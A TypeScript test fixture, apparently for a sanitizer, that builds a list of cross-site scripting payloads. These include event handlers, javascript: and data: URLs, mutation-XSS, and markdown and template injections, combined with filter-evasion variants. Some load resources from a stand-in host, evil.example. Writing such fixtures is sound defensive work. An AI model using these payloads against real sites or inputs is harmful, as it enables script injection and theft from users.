/**
 * Texts that try to become a script when they are shown (A23). Each would call `run`, and each way in is crossed with the shapes that
 * filters are known to overlook.
 */
const run = 'window.evenkeelRan=1'
const far = 'https://evil.example/beacon'

const elements: readonly string[] = [
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<body onload=${run}>`,
  `<video src=x onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<iframe srcdoc="<script>parent.evenkeelRan=1</script>"></iframe>`,
  `<iframe src="javascript:parent.evenkeelRan=1"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<form><button formaction="javascript:${run}">x</button></form>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<script>${run}</script>`,
  `<script src="${far}.js"></script>`,
  `<link rel=stylesheet href="${far}.css">`,
  `<style>@import '${far}.css'</style>`,
  `<style>*{background:url(${far})}</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="${far}/">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
  `<svg><style><img title="</style><img src=x onerror=${run}>">`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set onbegin=${run} attributeName=x>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<template><img src=x onerror=${run}></template>`,
  `<xss id=x tabindex=1 onfocus=${run} style=display:block>x</xss>`,
  `<div style="background:url(javascript:${run})">x</div>`,
  `<p style="animation-name:x" onanimationstart=${run}>x</p>`,
  `<keygen autofocus onfocus=${run}>`,
  `<dialog open onclose=${run}>x</dialog>`,
]

/** How a text is bent so that a filter sees something else than the browser. */
const bends: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}<x y='`,
  (text) => `</textarea></title></style></script>${text}`,
  (text) => text.replace(/<(\w+)/g, (_, name: string) => `<${name.toUpperCase()}`),
  (text) => text.replace(/ /g, '/'),
  (text) => `<!--><b>-->${text}`,
  (text) => text.replace('javascript:', 'java\tscript:'),
  (text) => text.replace('=', '\n=\n'),
]

const others: readonly string[] = [
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](java&Tab;script:${run})`,
  `[x](&#106;avascript:${run})`,
  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuZXZlbmtlZWxSYW49MTwvc2NyaXB0Pg==)`,
  `[x](vbscript:${run})`,
  `[x]: javascript:${run}\n\n[x]`,
  `<javascript:${run}>`,
  `![x](x" onerror="${run})`,
  `![x](${far})`,
  `\`\`\`"><img src=x onerror=${run}>\nx\n\`\`\``,
  `| <img src=x onerror=${run}> |\n| --- |\n| <svg onload=${run}> |`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${run}%3E`,
  `＜img src=x onerror=${run}＞`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `"onmouseover="${run}" autofocus onfocus="${run}`,
  `' onfocus='${run}' autofocus='`,
  `javascript:${run}`,
  `__proto__[innerHTML]=<img src=x onerror=${run}>`,
]

export const hostileTexts: readonly string[] = [
  ...new Set([...elements.flatMap((element) => bends.map((bend) => bend(element))), ...others]),
]

/** Those that fit a short field, on one line. */
export const hostileNames = (longest: number): readonly string[] =>
  hostileTexts.filter((text) => text.length <= longest && !/[\n\t]/.test(text))
